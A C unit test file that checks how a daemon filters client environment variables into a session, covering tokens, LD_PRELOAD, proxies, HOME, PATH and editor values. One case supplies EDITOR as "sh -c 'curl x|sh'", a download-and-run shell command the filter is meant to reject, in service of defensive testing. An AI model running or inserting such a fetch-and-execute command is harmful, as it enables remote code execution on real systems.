/* Layer 0 as the daemon applies it: which variables of a client get into a session. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <string.h>

#include <cmocka.h>

#include "base/cleanup.h"
#include "plan_case.h"

#define ALICE .uid = 1000, .user = "alice", .home = "/home/alice", .cwd = "/srv/p"
#define POLICY(text) .policy = "{\"environment\":" text "}"

static const struct {
	const char *what;
	struct plan_case input;
	const char *name;
	const char *value; /* NULL: the variable is not there */
	const char *note;  /* part of a note, NULL = there is none */
} cases[] = {
	{ "listed", { ALICE, .env = { { "TERM", "xterm" } } }, "TERM", "xterm", NULL },
	{ "by prefix", { ALICE, .env = { { "LC_ALL", "C" } } }, "LC_ALL", "C", NULL },
	{ "not listed", { ALICE, .env = { { "GH_TOKEN", "t" } } }, "GH_TOKEN", NULL, NULL },
	{ "named", { ALICE, .env = { { "GH_TOKEN", "t" } }, .named = { "GH_TOKEN" } }, "GH_TOKEN", "t", "GH_TOKEN" },
	{ "named, but not sent", { ALICE, .named = { "GH_TOKEN" } }, "GH_TOKEN", NULL, NULL },
	{ "by policy", { ALICE, .env = { { "CI", "1" } }, POLICY("{\"pass\":[\"CI\"]}") }, "CI", "1", NULL },
	{ "loader", { ALICE, .env = { { "LD_PRELOAD", "/x" } } }, "LD_PRELOAD", NULL, NULL },
	{ "loader, named",
	  { ALICE, .env = { { "LD_PRELOAD", "/x" } }, .named = { "LD_PRELOAD" } },
	  "LD_PRELOAD",
	  "/x",
	  "LD_PRELOAD" },
	{ "loader, by a pattern",
	  { ALICE, .env = { { "LD_PRELOAD", "/x" } }, .named = { "LD_*" } },
	  "LD_PRELOAD",
	  NULL,
	  NULL },
	{ "pattern", { ALICE, .env = { { "MYAPP_X", "/x" } }, .named = { "MYAPP_*" } }, "MYAPP_X", "/x", NULL },
	{ "own proxy",
	  { ALICE, .env = { { "HTTPS_PROXY", "http://h" } } },
	  "HTTPS_PROXY",
	  "http://127.0.0.1:61080",
	  NULL },
	{ "own proxy, named",
	  { ALICE, .env = { { "ALL_PROXY", "socks5://h" } }, .named = { "ALL_PROXY" } },
	  "ALL_PROXY",
	  NULL,
	  "proxy" },
	{ "home is the view's",
	  { ALICE, .env = { { "HOME", "/evil" } }, .named = { "HOME" } },
	  "HOME",
	  "/home/alice",
	  NULL },
	{ "user is passwd's", { ALICE, .env = { { "USER", "root" } } }, "USER", "alice", NULL },
	{ "pwd", { ALICE, .pwd = "/srv/./p" }, "PWD", "/srv/p", NULL },
	{ "session", { ALICE }, "ISOD_SESSION", "0123456789ab", NULL },
	{ "set", { ALICE, POLICY("{\"set\":{\"FOO\":\"bar\"}}") }, "FOO", "bar", NULL },
	{ "set beats sent",
	  { ALICE, .env = { { "TERM", "xterm" } }, POLICY("{\"set\":{\"TERM\":\"dumb\"}}") },
	  "TERM",
	  "dumb",
	  NULL },
	{ "plain editor", { ALICE, .env = { { "EDITOR", "vim -R" } } }, "EDITOR", "vim -R", NULL },
	{ "editor with a shell in it",
	  { ALICE, .env = { { "EDITOR", "sh -c 'curl x|sh'" } } },
	  "EDITOR",
	  NULL,
	  "EDITOR" },
	{ "folder in the view",
	  { ALICE, .env = { { "XDG_CACHE_HOME", "/home/alice/c" } } },
	  "XDG_CACHE_HOME",
	  "/home/alice/c",
	  NULL },
	{ "folder that the view lacks",
	  { ALICE, .env = { { "XDG_CACHE_HOME", "/x" } } },
	  "XDG_CACHE_HOME",
	  NULL,
	  NULL },
	{ "empty value", { ALICE, .env = { { "TZ", "" } } }, "TZ", "", NULL },
	{ "default path", { ALICE }, "PATH", "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", NULL },
	{ "path as sent", { ALICE, .env = { { "PATH", "/opt/x/bin" } } }, "PATH", "/opt/x/bin", NULL },
};

static const char *find(const struct plan_built *b, const char *name)
{
	size_t len = strlen(name);
	const char *found = NULL;

	for (size_t i = 0; i < b->envp.count; i++) {
		if (strncmp(b->envp.items[i], name, len) != 0 || b->envp.items[i][len] != '=')
			continue;
		/* One variable, one value: programs differ in which of two they take. */
		assert_null(found);
		found = b->envp.items[i] + len + 1;
	}
	return found;
}

static void test_cases(void **state)
{
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		_cleanup_plan_built_ struct plan_built built = PLAN_BUILT_INIT;
		struct error e = ERROR_INIT;
		const char *value;

		if (plan_case_build(&cases[i].input, &built, &e) < 0)
			fail_msg("%s: %s: %s", cases[i].what, e.step, e.message);
		value = find(&built, cases[i].name);
		if (!value != !cases[i].value || (value && strcmp(value, cases[i].value) != 0))
			fail_msg("%s: %s is %s", cases[i].what, cases[i].name, value ? value : "not there");
		if (cases[i].note ? built.notes.count != 1 || !strstr(built.notes.items[0], cases[i].note)
				  : built.notes.count != 0)
			fail_msg("%s: %zu notes: %s", cases[i].what, built.notes.count,
				 built.notes.count ? built.notes.items[0] : "");
	}
}

int main(void)
{
	static const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_cases),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
